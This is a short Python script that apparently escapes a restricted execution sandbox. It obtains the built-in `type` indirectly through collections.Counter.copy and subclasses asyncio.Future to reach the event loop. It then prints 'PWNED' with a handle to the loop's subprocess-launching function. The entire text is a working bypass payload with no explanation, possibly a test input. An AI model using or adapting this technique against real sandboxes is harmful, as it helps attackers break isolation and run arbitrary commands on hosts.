import asyncio
import collections


class Own:
    pass


real = collections.Counter.copy(Own)
Mine = real("Mine", (Own, asyncio.Future), {})


async def main():
    return Mine()._loop


loop = asyncio.run(main())
return "PWNED " + repr(loop.subprocess_exec)
